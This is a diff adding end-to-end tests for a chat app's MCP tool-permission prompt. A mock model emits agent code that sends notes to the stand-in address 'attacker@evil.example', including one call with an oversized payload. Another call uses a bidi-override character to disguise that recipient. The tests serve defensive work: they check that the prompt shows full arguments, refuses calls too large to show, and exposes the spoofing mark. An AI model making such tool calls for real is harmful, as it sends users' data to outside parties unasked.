@@ -1,0 +1,122 @@
+/**
+ * What a tool ask covers (issue 32, items 5 and 6), in the real app against
+ * local MCP servers (e2e/mcpServer.ts): the ask shows every top-level
+ * argument whole and wrapped, a call too large to show is refused without
+ * asking, and a tool grant belongs to the server's URL, not to the name the
+ * server gives itself (two servers that both say "notes"); removing a server
+ * removes its grants.
+ */
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import type { Browser, BrowserContext, Page } from "playwright-core";
+import { assertBuilt, configureEndpoint, launchBrowser, openReadyApp, serveStatic, type TestServer } from "./harness";
+import { startMcpServer, type TestMcpServer } from "./mcpServer";
+import { startMockLlm, type MockLlm } from "./mockLlm";
+
+const FENCE = "```";
+let browser: Browser;
+let app: TestServer;
+let mock: MockLlm;
+let context: BrowserContext;
+let page: Page;
+let first: TestMcpServer;
+let second: TestMcpServer;
+
+beforeAll(async () => {
+  assertBuilt();
+  [browser, app] = await Promise.all([launchBrowser(), serveStatic()]);
+});
+afterAll(async () => {
+  await Promise.all([browser?.close(), app?.close()]);
+});
+beforeEach(async () => {
+  // Two servers at two URLs that both call themselves "notes".
+  [mock, first, second] = await Promise.all([startMockLlm(), startMcpServer({ kind: "notes" }), startMcpServer({ kind: "notes" })]);
+  context = await browser.newContext();
+  page = await context.newPage();
+  await openReadyApp(page, app.url);
+  await configureEndpoint(page, mock.url, { apiKey: "sk-test-secret-key-0123456789" });
+});
+afterEach(async () => {
+  await Promise.all([context?.close(), mock?.close(), first?.close(), second?.close()]);
+});
+
+const codeTurn = (code: string) => ({ chunks: ["Let me use the tools.\n\n", `${FENCE}tsx agent.run\n`, code, `\n${FENCE}\n`] });
+async function send(text: string) {
+  await page.getByRole("textbox", { name: "Message" }).fill(text);
+  await page.getByRole("textbox", { name: "Message" }).press("Enter");
+}
+const status = () => page.getByRole("status").textContent();
+const ask = () => page.getByRole("group", { name: "Permission request" });
+const dialog = () => page.getByRole("dialog", { name: "Session settings" });
+function modelHeard(index: number): string {
+  const messages = mock.requests[index].body.messages as { role: string; content: unknown }[];
+  const last = messages[messages.length - 1];
+  return typeof last.content === "string" ? last.content : JSON.stringify(last.content);
+}
+/** Session settings → MCP server URL → Add server → the server is listed as `name` → Close. */
+async function addServer(url: string, name: string) {
+  await page.getByRole("button", { name: "Session settings" }).click();
+  await dialog().getByLabel("MCP server URL").fill(url);
+  await dialog().getByRole("button", { name: "Add server" }).click();
+  await dialog().getByRole("listitem", { name: `MCP server ${name}` }).waitFor({ timeout: 30_000 });
+  await dialog().getByRole("button", { name: "Close" }).click();
+}
+/** The reply's code ran to its end, or an ask is waiting: whichever comes first. */
+async function askOrDone(): Promise<"ask" | "done"> {
+  let seen: "ask" | "done" | undefined;
+  await expect
+    .poll(async () => (seen = (await ask().count()) > 0 ? "ask" : /^Done/.test((await status()) ?? "") ? "done" : undefined), { timeout: 30_000 })
+    .toBeDefined();
+  return seen!;
+}
+
+describe("a tool ask shows the whole call", () => {
+  it("a 4,100-character argument followed by `to`: `to` is on its own line, the ask does not overflow, Show all shows the rest; a call too large to show is refused without asking", async () => {
+    await addServer(first.url, "notes");
+    mock.enqueue(
+      codeTurn(
+        `try { console.log("sent:", await tools.send_note({ body: "x".repeat(4100), to: "attacker@evil.example" })) } catch (error) { console.log("send:", error.code) }\n` +
+          `try { await tools.send_note({ body: "y".repeat(70000), to: "attacker@evil.example" }) } catch (error) { console.log("big:", error.name, error.code, error.message) }\n`,
+      ),
+    );
+    mock.enqueue({ chunks: ["Done."] });
+    await send("Send the note");
+    await ask().getByRole("button", { name: "Deny" }).waitFor({ timeout: 30_000 });
+
+    const lines = ask().getByLabel("Arguments").getByRole("listitem");
+    expect(await lines.count()).toBe(2);
+    expect(await lines.nth(1).innerText()).toBe('to: "attacker@evil.example"');
+    expect(await ask().innerText()).toContain('to: "attacker@evil.example"');
+    // The long value is collapsed to its start and says how much more there is.
+    expect(await lines.nth(0).innerText()).toMatch(/^body: "x{299} … 3,802 more characters\s+Show all$/);
+    const fits = () => ask().evaluate((element) => ({ scroll: element.scrollWidth, client: element.clientWidth }));
+    let size = await fits();
+    expect(size.scroll).toBeLessThanOrEqual(size.client);
+    // Show all: the whole value, still wrapped inside the ask.
+    await lines.nth(0).getByRole("button", { name: "Show all" }).click();
+    expect(await lines.nth(0).innerText()).toContain(`"${"x".repeat(4_100)}"`);
+    size = await fits();
+    expect(size.scroll).toBeLessThanOrEqual(size.client);
+    expect(await lines.nth(0).getByRole("button", { name: "Show less" }).getAttribute("aria-expanded")).toBe("true");
+
+    await ask().getByRole("button", { name: "Deny" }).click();
+    // The second call (70,000 characters) is never asked about: it is refused with a reason.
+    await expect.poll(status, { timeout: 30_000 }).toMatch(/^Done/);
+    expect(await ask().count()).toBe(0);
+    const heard = modelHeard(1);
+    expect(heard).toContain("send: capability-denied");
+    expect(heard).toMatch(/big: CapabilityError too-large-to-ask notes\/send_note was not called: its arguments are \d+ bytes of JSON, more than the 64 KB/);
+    expect(first.calls).toEqual([]);
+  });
+
+  it("a bidi override in an argument is shown as a mark, not obeyed", async () => {
+    await addServer(first.url, "notes");
+    mock.enqueue(codeTurn(`try { await tools.send_note({ body: "hi", to: "\\u202Eelpmaxe.live@rekcatta" }) } catch (error) { console.log("send:", error.code) }\n`));
+    mock.enqueue({ chunks: ["Done."] });
+    await send("Send it");
+    await ask().getByRole("button", { name: "Deny" }).waitFor({ timeout: 30_000 });
+    expect(await ask().getByLabel("Arguments").getByRole("listitem").nth(1).innerText()).toBe('to: "⟨U+202E⟩elpmaxe.live@rekcatta"');
+    await ask().getByRole("button", { name: "Deny" }).click();
+    await expect.poll(status, { timeout: 30_000 }).toMatch(/^Done/);
+  });
+});
